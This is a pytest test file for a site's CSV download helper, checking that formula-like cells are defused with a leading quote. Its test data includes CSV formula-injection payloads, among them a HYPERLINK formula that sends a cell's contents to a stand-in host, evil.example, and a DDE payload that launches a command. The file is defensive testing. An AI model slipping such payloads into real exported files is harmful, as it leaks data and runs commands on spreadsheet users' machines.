"""Every CSV the site writes is safe to open in a spreadsheet (core.downloads)."""

import csv
import io
import re

import pytest

from core.downloads import csv_response, write_csv

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def written(rows) -> list[list[str]]:
    out = io.StringIO()
    write_csv(out, rows)
    return list(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("name", EVIL)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote(name):
    [[cell]] = written([[name]])
    assert cell.startswith("'")
    assert name.replace("|", "\\|") in cell  # the text itself is kept, only defused


@pytest.mark.parametrize("value", ["Ann & Bob", "Zoë", "42", "-3", "1.5", "", "a=b"])
def test_plain_text_and_numbers_are_left_alone(value):
    assert written([[value]]) == [[value]]


def test_numbers_stay_numbers():
    assert written([[1, -2, 2.5, None]]) == [["1", "-2", "2.5", ""]]


def test_the_response_is_a_download_with_a_byte_order_mark():
    response = csv_response([["Name"], ["=1+1"]], "x.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff") and "'=1+1" in text
    assert not csv_response([["a"]], "x.csv", bom=False).content.decode().startswith("\ufeff")


def test_no_app_writes_csv_but_through_the_helper():
    """A new CSV download must call csv_response (or write_csv), not the csv module."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    apps = ["accounts", "clubs", "core", "games", "home", "kookaburra", "ladders", "tournaments"]
    offenders = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if path.name != "downloads.py"
        and re.search(r"^\s*(import csv|from csv import)|csv\.writer", path.read_text(), re.M)
    ]
    assert offenders == []
